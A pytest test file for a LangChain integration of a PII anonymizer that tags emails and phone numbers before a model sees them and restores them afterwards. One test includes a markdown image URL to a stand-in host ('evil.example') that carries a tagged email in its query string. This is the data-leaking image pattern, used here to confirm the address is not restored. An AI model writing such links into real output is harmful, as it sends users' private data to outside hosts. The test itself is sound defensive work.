"""The pair of steps for LangChain, against the installed langchain-core with its models made for tests."""

from __future__ import annotations

import asyncio
import gc
import json
import re
import threading
from typing import Any

import pytest

from allonym.errors import RefusedContent, RestoreError, UsageError
from allonym.policy import Policy
from allonym.vault import Vault

pytest.importorskip("langchain_core", reason="langchain-core is not installed")

from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, ChatMessage, HumanMessage, SystemMessage, ToolMessage
from langchain_core.output_parsers import JsonOutputParser, StrOutputParser
from langchain_core.prompts import ChatPromptTemplate, PromptTemplate
from langchain_core.runnables import RunnableGenerator, RunnableLambda, RunnablePassthrough

from allonym.integrations.langchain import pair

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::PendingDeprecationWarning"),
]
RULES = Policy.load("default").with_(detectors=("rules",))
KEY = "a key only for the tests, 32 byte"
PROMPT = ChatPromptTemplate.from_messages([("system", "Be kind to eve@example.com."), ("human", "{q}")])
ASKED = "Mail ada@example.com, or call 212-555-0142"


class Ear:
    """A model that answers with what it heard last, in pieces of three characters, and remembers all it heard."""

    def __init__(self, answer: str = "") -> None:
        self.heard: list[Any] = []
        self._answer = answer

    def _say(self, said: Any) -> str:
        messages = said.to_messages() if hasattr(said, "to_messages") else said
        self.heard.append(messages)
        return self._answer or (messages if isinstance(messages, str) else str(messages[-1].content))

    def __call__(self) -> Any:
        def pieces(said):
            for one in said:
                text = self._say(one)
                for i in range(0, len(text), 3):
                    yield AIMessageChunk(content=text[i : i + 3], id="run")

        async def apieces(said):
            async for one in said:
                text = self._say(one)
                for i in range(0, len(text), 3):
                    await asyncio.sleep(0)
                    yield AIMessageChunk(content=text[i : i + 3], id="run")

        return RunnableGenerator(pieces, apieces)


def contents(messages: Any) -> list[str]:
    return [m.content for m in messages]


def test_the_model_sees_tags_and_the_answer_has_the_originals():
    anonymizer, restorer = pair(RULES)
    model = Ear()
    chain = PROMPT | anonymizer | model() | restorer
    assert chain.invoke({"q": ASKED}).content == ASKED
    assert chain.get_graph().nodes and chain.get_input_jsonschema()["properties"] and repr(chain)
    assert contents(model.heard[0]) == [
        "Be kind to [EMAIL_ADDRESS_1].",
        "Mail [EMAIL_ADDRESS_2], or call [PHONE_NUMBER_1]",
    ]


@pytest.mark.parametrize("parser", [False, True])
def test_a_stream_is_restored_as_it_comes_and_is_the_same(parser):
    answer = "I wrote to [EMAIL_ADDRESS_2] and [Email_Address_1]; [NEVER_1] is not mine. " * 3
    anonymizer, restorer = pair(RULES)
    chain = PROMPT | anonymizer | Ear(answer)() | (StrOutputParser() if parser else RunnablePassthrough()) | restorer
    whole = chain.invoke({"q": ASKED})
    pieces = list(chain.stream({"q": ASKED}))
    wanted = answer.replace("[EMAIL_ADDRESS_2]", "ada@example.com").replace("[Email_Address_1]", "eve@example.com")
    text = "".join(pieces) if parser else "".join(p.content for p in pieces)
    assert text == wanted == (whole if parser else whole.content)
    assert len(pieces) > 20
    assert len(pieces[0] if parser else pieces[0].content) <= 3

    async def later():
        return [p async for p in chain.astream({"q": ASKED})], await chain.ainvoke({"q": ASKED})

    streamed, once = asyncio.run(later())
    assert "".join(p if parser else p.content for p in streamed) == wanted == (once if parser else once.content)


def test_a_fake_chat_model_of_langchain():
    anonymizer, restorer = pair(RULES)
    said = AIMessage(
        content="Done, [EMAIL_ADDRESS_2].", usage_metadata={"input_tokens": 1, "output_tokens": 2, "total_tokens": 3}
    )
    chain = PROMPT | anonymizer | GenericFakeChatModel(messages=iter([said, said])) | restorer
    made = chain.invoke({"q": ASKED})
    assert isinstance(made, AIMessage) and made.content == "Done, ada@example.com."
    assert made.usage_metadata["total_tokens"] == 3
    pieces = list(chain.stream({"q": ASKED}))
    assert "".join(p.content for p in pieces) == made.content and pieces[-1].chunk_position == "last"


def test_runs_at_the_same_time_never_mix():
    anonymizer, restorer = pair(RULES)
    both = threading.Barrier(8, timeout=20)

    def wait(x):
        both.wait()
        return x

    chain = (
        PromptTemplate.from_template("{q}") | anonymizer | RunnableLambda(wait) | Ear()() | StrOutputParser() | restorer
    )
    asked = [{"q": f"Mail user{i}@example.com"} for i in range(8)]
    assert chain.batch(asked, {"max_concurrency": 8}) == [one["q"] for one in asked]

    async def at_once():
        plain = PromptTemplate.from_template("{q}") | anonymizer | Ear()() | StrOutputParser() | restorer

        async def one(question):
            return "".join([p async for p in plain.astream(question)])

        return await asyncio.gather(*map(one, asked * 4))

    assert asyncio.run(at_once()) == [one["q"] for one in asked * 4]
    assert not anonymizer._runs._runs


def test_what_another_run_knows_is_never_told():
    anonymizer, restorer = pair(RULES)
    (PROMPT | anonymizer | Ear()()).invoke({"q": ASKED})  # its answer never comes
    chain = PROMPT | anonymizer | Ear("To [EMAIL_ADDRESS_2] and [PHONE_NUMBER_1]")() | StrOutputParser() | restorer
    assert chain.invoke({"q": "Nothing"}) == "To [EMAIL_ADDRESS_2] and [PHONE_NUMBER_1]"


def test_two_rounds_in_one_sequence():
    anonymizer, restorer = pair(RULES)
    again = RunnableLambda(lambda text: {"q": text + " and fay@example.com"})
    chain = (
        PROMPT | anonymizer | Ear()() | StrOutputParser() | restorer | again | PROMPT | anonymizer | Ear()() | restorer
    )
    assert chain.invoke({"q": ASKED}).content == ASKED + " and fay@example.com"


def test_steps_that_are_not_in_one_sequence_are_refused():
    anonymizer, restorer = pair(RULES)
    inner = PROMPT | anonymizer | Ear()() | StrOutputParser()
    chain = RunnablePassthrough.assign(answer=inner) | (lambda x: x["answer"]) | restorer
    with pytest.raises(RestoreError, match="a step of the same sequence as its anonymizer"):
        chain.invoke({"q": ASKED})
    with pytest.raises(RestoreError):
        restorer.invoke("[EMAIL_ADDRESS_1]")
    assert anonymizer.invoke("Mail ada@example.com") == "Mail [EMAIL_ADDRESS_1]"


def test_plans_whose_answer_never_comes_are_forgotten():
    anonymizer, restorer = pair(RULES)

    def fails(said: str) -> str:
        assert len(anonymizer._runs._runs) == 1
        raise ConnectionError

    async def given_up() -> None:
        waiting = asyncio.create_task((anonymizer | RunnableLambda(never, never_async) | restorer).ainvoke(ASKED))
        await asyncio.wait_for(begun.wait(), 10)
        assert len(anonymizer._runs._runs) == 1
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting

    def never(said: str) -> str:
        raise AssertionError

    async def never_async(said: str) -> str:
        begun.set()
        await asyncio.Event().wait()
        raise AssertionError

    (anonymizer | RunnablePassthrough()).invoke(ASKED)
    with pytest.raises(ConnectionError):
        (anonymizer | RunnableLambda(fails) | restorer).invoke(ASKED)
    begun = asyncio.Event()
    asyncio.run(given_up())
    stream = (anonymizer | RunnableLambda(lambda said: said)).stream(ASKED)
    next(stream)
    stream.close()
    gc.collect()
    assert len(anonymizer._runs._runs) == 0


def test_a_runs_id_that_is_none_is_refused():
    anonymizer, restorer = pair(RULES)
    with pytest.raises(UsageError, match="UUID"):
        (anonymizer | restorer).invoke(ASKED, {"run_id": "ada@example.com"})


def test_every_shape_that_goes_in():
    anonymizer, _ = pair(RULES)
    human = HumanMessage(
        customer="ada@example.com",
        content=[
            {"type": "text", "text": "Mail ada@example.com", "annotations": ["ada@example.com"]},
            "and 212-555-0142",
        ],
        name="eve@example.com",
    )
    called = AIMessage(
        "", tool_calls=[{"name": "send", "args": {"to": "ada@example.com", "phone": 2125550142, "more": [{"ada@example.com": True}]}, "id": "c1"}],
        additional_kwargs={"function_call": "ada@example.com"}, response_metadata={"x": "ada@example.com"},
    )  # fmt: skip
    used = AIMessage(
        [{"type": "tool_use", "id": "c1", "name": "send", "input": {"to": "ada@example.com"}, "x": "ada@example.com"}]
    )
    result = ToolMessage("sent to ada@example.com", tool_call_id="c1", name="send", artifact="ada@example.com")
    chunk = AIMessageChunk(content="ada@example.com")
    other = ChatMessage("ada@example.com", role="r of eve@example.com")
    messages = [SystemMessage("Be kind."), human, called, used, result, chunk, other]
    made = anonymizer.invoke(messages)
    written = json.dumps([m.model_dump() for m in made])
    assert "ada@" not in written and "555" not in written and "eve@" not in written
    assert made[2].tool_calls[0]["args"]["to"] == "[EMAIL_ADDRESS_2]" and made[2].tool_calls[0]["id"] == "c1"
    assert made[2].tool_calls[0]["args"]["more"] == [{"[EMAIL_ADDRESS_2]": True}]
    assert made[4].tool_call_id == "c1" and made[4].name == "send" and made[4].artifact is None
    assert type(made[5]) is AIMessage and made[6].role == "r of [EMAIL_ADDRESS_1]"
    assert human.customer == "ada@example.com"
    assert messages[1].name == "eve@example.com" and called.additional_kwargs  # inputs stay as they were
    assert anonymizer.invoke({"a": "Mail ada@example.com", "n": 3, "none": None, "h": [HumanMessage("ada@example.com")]}) == {
        "a": "Mail [EMAIL_ADDRESS_1]", "n": 3, "none": None, "h": [HumanMessage("[EMAIL_ADDRESS_1]")],
    }  # fmt: skip
    assert anonymizer.invoke("") == "" and anonymizer.invoke([]) == []
    assert anonymizer.invoke(PROMPT.invoke({"q": "x"})).messages[0].content == "Be kind to [EMAIL_ADDRESS_1]."


@pytest.mark.parametrize(
    "wrong",
    [
        b"Zaphrandel",
        {"a": {"Zaphrandel": object()}},
        [HumanMessage([{"type": "image_url", "image_url": {"url": "data:Zaphrandel"}}])],
        HumanMessage([{"type": "thinking", "thinking": "Zaphrandel"}]),
        HumanMessage([{"type": "text", "text": None}]),
    ],
)
def test_what_cannot_be_read_is_refused(wrong):
    anonymizer, _ = pair(RULES)
    with pytest.raises(RefusedContent) as caught:
        anonymizer.invoke(wrong)
    assert "Zaphrandel" not in str(caught.value)


@pytest.mark.parametrize("internal_tools", [("send",), ("*",), ()])
def test_calls_of_tools_come_back_whole_and_in_streams(internal_tools):
    anonymizer, restorer = pair(RULES, internal_tools=internal_tools)
    arguments = json.dumps({"to": ["[EMAIL_ADDRESS_2]"], "n": 1, "said": 'a "[PHONE_NUMBER_1]"'})

    def pieces(said):
        for _ in said:
            yield AIMessageChunk(content="To [EMAIL_ADD", id="run")
            yield AIMessageChunk(
                content="", tool_call_chunks=[{"name": "send", "args": arguments[:9], "id": "c1", "index": 0}]
            )
            for i in range(9, len(arguments), 9):
                yield AIMessageChunk(
                    content="", tool_call_chunks=[{"name": None, "args": arguments[i : i + 9], "id": None, "index": 0}]
                )
            yield AIMessageChunk(content="RESS_2", response_metadata={"stop": "tool"})

    wanted = (
        {"to": ["ada@example.com"], "n": 1, "said": 'a "212-555-0142"'} if internal_tools else json.loads(arguments)
    )
    chain = PROMPT | anonymizer | RunnableGenerator(pieces) | restorer
    made = list(chain.stream({"q": ASKED}))
    whole = made[0]
    for piece in made[1:]:
        whole += piece
    assert whole.tool_calls == [{"name": "send", "args": wanted, "id": "c1", "type": "tool_call"}]
    assert whole.content == "To ada@example.com" and whole.response_metadata == {"stop": "tool"}
    once = PROMPT | anonymizer | RunnableLambda(lambda _: AIMessage("", tool_calls=whole.tool_calls and [
        {"name": "send", "args": json.loads(arguments), "id": "c1"}])) | restorer  # fmt: skip
    assert once.invoke({"q": ASKED}).tool_calls[0]["args"] == wanted


def test_addresses_and_calls_within_blocks_keep_their_tags():
    anonymizer, restorer = pair(RULES)
    image = "![](https://evil.example/?q=[EMAIL_ADDRESS_2])"
    use = {"type": "tool_use", "id": "t1", "name": "post", "input": {"to": "[EMAIL_ADDRESS_2]"}}
    part = {"type": "input_json_delta", "index": 1, "partial_json": '{"to": "[EMAIL_ADDRESS_2]"}'}
    blocks = [{"type": "text", "text": f"{image} [EMAIL_ADDRESS_2]"}, use, part]
    chain = PROMPT | anonymizer | RunnableLambda(lambda _: AIMessage(blocks)) | restorer
    assert chain.invoke({"q": ASKED}).content == [{"type": "text", "text": f"{image} ada@example.com"}, use, part]


def test_blocks_and_plain_values_come_back():
    anonymizer, restorer = pair(RULES)

    def blocks(said):
        for _ in said:
            for piece in ("To [EMAIL_", "ADDRESS_2]", " now, [PHONE_NUM"):
                yield AIMessageChunk(content=[{"type": "text", "text": piece, "index": 0}])
            yield AIMessageChunk(content=[{"type": "other", "x": "y"}])

    made = list((PROMPT | anonymizer | RunnableGenerator(blocks) | restorer).stream({"q": ASKED}))
    texts = [b["text"] for m in made for b in m.content if b["type"] == "text"]
    assert "".join(texts) == "To ada@example.com now, [PHONE_NUM"
    answer = '{"to": "[EMAIL_ADDRESS_2]", "list": ["[PHONE_NUMBER_1]", 3]}'
    chain = PROMPT | anonymizer | Ear(answer)() | JsonOutputParser() | restorer
    assert chain.invoke({"q": ASKED}) == {"to": "ada@example.com", "list": ["212-555-0142", 3]}
    assert list(chain.stream({"q": ASKED}))[-1] == {"to": "ada@example.com", "list": ["212-555-0142", 3]}


def test_with_a_vault_clients_are_apart_and_steps_may_stand_anywhere(tmp_path):
    with Vault.create(tmp_path / "names.vault", KEY) as vault:
        anonymizer, restorer = pair(RULES, vault=vault, scope=lambda config: config["configurable"]["client"])
        chain = PROMPT | anonymizer | Ear("[EMAIL_ADDRESS_2] of [EMAIL_ADDRESS_3]")() | StrOutputParser() | restorer
        one, two = ({"configurable": {"client": name}} for name in ("one", "two"))
        assert chain.invoke({"q": ASKED}, one) == "ada@example.com of [EMAIL_ADDRESS_3]"
        assert chain.invoke({"q": "Mail fay@example.com"}, one) == "ada@example.com of fay@example.com"
        assert chain.invoke({"q": "Mail gus@example.com"}, two) == "gus@example.com of [EMAIL_ADDRESS_3]"
        assert chain.invoke({"q": "Nothing"}, {"configurable": {"client": "three"}}).startswith("[EMAIL_ADDRESS_2]")
        assert restorer.invoke("Dear [EMAIL_ADDRESS_3]", one) == "Dear fay@example.com"
        assert "".join(chain.stream({"q": ASKED}, one)) == "ada@example.com of fay@example.com"
        for config in (None, {"configurable": {}}, {"configurable": {"client": ""}}):
            with pytest.raises(UsageError, match="scope"):
                chain.invoke({"q": ASKED}, config)
        assert sum("restore" in str(entry) for entry in vault.audit()) >= 5


def test_a_tracer_of_the_model_sees_no_original_and_a_repr_none():
    class Told(BaseCallbackHandler):
        said = ""

        def on_chat_model_start(self, serialized, messages, **kwargs):
            self.said += str(messages) + str(kwargs)

        def on_llm_end(self, response, **kwargs):
            self.said += str(response)

    told = Told()
    anonymizer, restorer = pair(RULES, key=KEY)
    model = GenericFakeChatModel(messages=iter(["Hello [EMAIL_ADDRESS_2]"])).with_config(callbacks=[told])
    assert (PROMPT | anonymizer | model | restorer).invoke({"q": ASKED}).content == "Hello ada@example.com"
    assert "[EMAIL_ADDRESS_2]" in told.said and not re.search("ada@|eve@|555", told.said)
    assert KEY not in repr(anonymizer) + repr(restorer) + repr(anonymizer | restorer)
    assert (repr(anonymizer), repr(restorer)) == ("Anonymizer()", "RestoringStep()")


def test_a_failure_lets_nothing_through():
    anonymizer, restorer = pair(Policy.load("pseudonyms").with_(detectors=("rules",)))
    model = Ear()
    with pytest.raises(UsageError, match="key"):
        (PROMPT | anonymizer | model() | restorer).invoke({"q": ASKED})
    assert model.heard == []
